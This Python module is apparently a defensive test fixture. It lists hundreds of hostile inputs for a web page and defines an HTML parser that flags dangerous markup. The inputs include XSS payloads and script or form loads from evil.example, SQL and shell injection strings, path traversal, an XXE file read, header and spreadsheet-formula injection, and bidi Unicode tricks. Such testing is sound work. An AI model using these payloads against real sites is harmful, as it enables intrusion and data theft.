"""Over 300 texts that somebody might type to make a page do or show what it should not, and the eye that judges pages.

Made of parts: what runs, what leads out, what breaks out of a place in our markup, what turns or covers lines, what
other languages of the machine would take for theirs (templates, formats, SQL, full-text search).
"""

# ruff: noqa: E501

import re
from html.parser import HTMLParser
from itertools import product

TAGS_THAT_RUN = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></ScRiPt>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<body onload=alert(1)>",
    "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=//evil.example/x>",
    "<embed src=//evil.example/x.swf>", "<style>*{display:none}</style>", "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><input name=password>",
    "<video src=//evil.example/v onloadstart=alert(1)>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>", "<input autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x</button>",
    "<a href='javascript:alert(1)'>x</a>", "<a href=x ping=//evil.example>x</a>", "<math><mi xlink:href='javascript:alert(1)'>x",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<div style='position:fixed;inset:0;background:#fff'>x</div>",
    "<div id=main class='btn danger' hidden>x</div>", "<dialog open>x</dialog>", "<slot name=x>", "<x-y onclick=alert(1)>z</x-y>",
    "<table background=//evil.example/b.png><td>x", "<img srcset='//evil.example/b.png 1x'>", "<picture><source srcset=//evil.example/b>",
    "<svg><use href='//evil.example/x#y'/></svg>", "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
]  # fmt: skip
ENDINGS_OF_PLACES = [
    '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</select>", "</option>", "</a>", "</h1>",
    "</bdi>", "</p></div></main>", "</details>", "</noscript>", "</template>", "</svg>",
]  # fmt: skip
AFTER_AN_ENDING = ["<script>alert(1)</script>", "<img src=//evil.example/b.png onerror=alert(1)>"]
ATTRIBUTES = [
    '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus x='", '" style="position:fixed;inset:0', '" href="javascript:alert(1)',
    "x onclick=alert(1)", "` onload=alert(1)", '"/onpointerenter=alert(1)//', '" srcdoc="<script>alert(1)</script>',
    '" formaction="//evil.example', '" data-markdown="" data-x="',
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "\\javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "file:///etc/passwd", "//evil.example", "/\\evil.example", "\\\\evil.example", "blob:https://evil.example/x",
    "view-source:https://evil.example", "feed:javascript:alert(1)", "intent://evil.example#Intent;end", "tel:+1%0d%0aX",
    "https://ok.example/\"onmouseover=alert(1)", "https://ok.example/'><script>alert(1)</script>",
]  # fmt: skip
WAYS_TO_LINK = ["[x]({})", "<{}>", "![x]({})", "[x][1]\n\n[1]: {}", "[![x]({})](https://ok.example)"]
MARKDOWN = [
    "[x](https://ok.example \"\\\" onmouseover=alert(1) x=\\\"\")", "![\" onerror=\"alert(1)](https://evil.example/x.png)",
    "```html onload=alert(1)\n<script>x</script>\n```", "```\"><script>alert(1)</script>\nx\n```", "`<script>alert(1)</script>`",
    "| <b onclick=alert(1)>a</b> |\n|:-:|\n| <script>x</script> |", "# <script>alert(1)</script>", "https://ok.example/<script>alert(1)</script>",
    "https://ok.example/'\"><img src=x onerror=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "\\<script>alert(1)\\</script>", "<!-- -->x<!--", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<%= 7*7 %>",
    "> " * 40 + "x", "- " * 40 + "x", "#" * 400, "*" * 400, "_" * 400, "`" * 399, "[" * 300, "~" * 300, "|" * 300, "=" * 200 + "\n" + "-" * 200,
    "1. " * 60, "999999999999999999999. x", "***\n" * 60, "\n" * 500 + "x", " " * 500 + "x", "\t\tx", "[x]: /url\n[x]: //evil.example\n\n[x]",
    "<https://ok.example/\"onmouseover=alert(1)>", "www.evil.example", "someone@evil.example", "mailto:x@evil.example?bcc=y@evil.example",
]  # fmt: skip
# Each alone, around a word, and before what looks like an address.
TURNING = [f"a{mark}b" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"]
TURNING += [
    f"{mark}{text}" for mark, text in product("\u202e\u202d\u2067", ["gnp.exe", "https://ok.example/moc.live", "مرحبا (abc) 123", "x" * 60])
]  # fmt: skip
UNSEEN = [
    f"a{mark}b"
    for mark in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u2028\u2029\u0085\u3164\u115f\u2800\U000e0041"
]
COVERING = [
    "Z" + "\u0335\u0322\u034f\u0301" * 200, "a" + "\u0300" * 1000, "\u20dd" * 300, "ﷺ" * 200, "𒐫" * 200, "꧅" * 100, "👩‍👩‍👧‍👦" * 200, "🏳️‍🌈" * 200, "🇹🇳" * 200,
    "x" * 5000, "ا" * 5000, "漢" * 3000, "https://ok.example/" + "a" * 3000, "a-" * 1500, "W" * 400 + " " + "i" * 400, "\u00a0" * 600,
    "ـ" * 2000, "⸻" * 300, "\U0001f4a9" * 1000, "\u2066" * 500 + "x",
]  # fmt: skip
MIXED = [
    "قال (he said): \"C++ و Python 3.11\" ثم انتهى", "abc مرحبا def שלום ghi", "1) ما هذا؟ 2) what?", "السعر 100$ (≈ 90€) - 10%", "`rm -rf /` ثم `ls`",
    "/home/مستخدم/file.txt", "https://ar.example/مقال?ق=١", "+216 20 123 456 هاتف", "!مهم: STOP", "A1ب2ج3", "(مرحبا", "مرحبا)", "«نص» \"text\" “x”",
    "שלום (abc) עולם", "#هاشتاغ @someone", "٪١٠٠ و 100%", "- قائمة\n- list\n- ١", "> قول\n\nreply", "| عمود | col |\n|---|---|\n| ١ | 1 |",
    "```\nif (س == 1) { return; }\n```",
]  # fmt: skip
OTHER_MACHINES = [
    "{{ 7|add:7 }}", "{% load static %}", "{% include 'base.html' %}", "{# x #}", "${7*7}", "#{7*7}", "{0.__class__}", "{}", "%(name)s", "%s %d %n", "%",
    "%%", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "\\", "\\\\", "\\0", "$(id)", "`id`", "; ls", "| id", "../../etc/passwd", "C:\\con\\nul", "NaN", "null",
    "undefined", "true", "0", "-1", "1e309", "' OR '1'='1", "'; DROP TABLE posts; --", "\" OR 1=1 --", "1 UNION SELECT 1", "%' AND 1=0 --", "a* OR b*",
    "NEAR(a b, 3)", "a AND NOT b", "\"a", "a:*", "a & !b", "((((", "col:a", "^a", "a\r\nBcc: x@evil.example", "a\nSubject: y", "a%0d%0aSet-Cookie: x=1",
    "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3", "\t=1+1", "BEGIN:VCALENDAR\r\nEND:VCALENDAR", "END:VEVENT", "]]></content><entry>", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "&a;", "&", "&amp;amp;", "&nosuch;", "&#0;", "&#xD800;", "\ud7ff", "\uffff", "\ufdd0",
    "__proto__", "constructor", "{\"a\":1}", "[object Object]", "{\"__proto__\":{}}", "</", "<", ">", "\"", "'", "<>", "<a", "<a href=", "<!", "<?", "</>",
]  # fmt: skip

HOSTILE: list[str] = list(dict.fromkeys([
    *TAGS_THAT_RUN,
    *("".join(pair) for pair in product(ENDINGS_OF_PLACES, AFTER_AN_ENDING)),
    *ATTRIBUTES,
    *(way.format(address) for way, address in product(WAYS_TO_LINK, ADDRESSES)),
    *MARKDOWN, *TURNING, *UNSEEN, *COVERING, *MIXED, *OTHER_MACHINES,
]))  # fmt: skip

TURNS_OR_IS_NO_TEXT = re.compile("[\u202a-\u202e\u2067\ufeff\u0000-\u0008\u000b\u000c\u000e-\u001f]")
PILED = re.compile("[\u0300-\u036f\u20d0-\u20ff]{7}")
SAFE = re.compile(r"(https?://|mailto:|/(?![/\\])|#|\?|\.\.?/|\w+/|$)", re.IGNORECASE)
# Where an address makes the browser do something by itself, only this site's own.
FETCHED = re.compile(r"(/(?![/\\])|#|$)")
NEVER = {
    "iframe",
    "object",
    "embed",
    "base",
    "marquee",
    "math",
    "foreignobject",
    "slot",
    "animate",
    "style",
}


class Eye(HTMLParser):
    """Reads a page as a browser would, and notes what no page of ours has."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.findings: list[str] = []
        self.shape: list[str] = []
        self.words: list[str] = []
        self.feed(page)
        self.close()
        text = "".join(self.words)
        self.findings += [f"turning {found!r}" for found in TURNS_OR_IS_NO_TEXT.findall(text)]
        self.findings += ["piled marks"] * bool(PILED.search(text))

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.shape.append(tag)
        named = {name: value or "" for name, value in attrs}
        if tag in NEVER or "-" in tag:
            self.findings.append(f"<{tag}>")
        # Data for search engines is no script: it ends at the first `</script`, wherever that stands.
        is_data = named.get("type") == "application/ld+json"
        if tag == "script" and not is_data and not named.get("src", "").startswith("/static/"):
            self.findings.append("<script>")
        if tag == "meta" and "http-equiv" in named:
            self.findings.append("<meta http-equiv>")
        for name, value in named.items():
            self._judge(tag, name, value)

    def _judge(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name in {
            "style",
            "srcdoc",
            "ping",
            "background",
            "xlink:href",
        }:
            self.findings.append(f"<{tag} {name}>")
        if name in {"src", "srcset", "action", "formaction", "poster"} or (
            name == "href" and tag in {"link", "use"}
        ):
            own = FETCHED.match(value) or value.startswith(
                ("http://testserver/", "data:,", "data:image/svg+xml;base64")
            )
            if not own:
                self.findings.append(f"<{tag} {name}={value[:60]!r}>")
        if name == "href" and not SAFE.match(value.strip()):
            self.findings.append(f"<{tag} href={value[:60]!r}>")

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def findings(page: str) -> list[str]:
    return Eye(page).findings
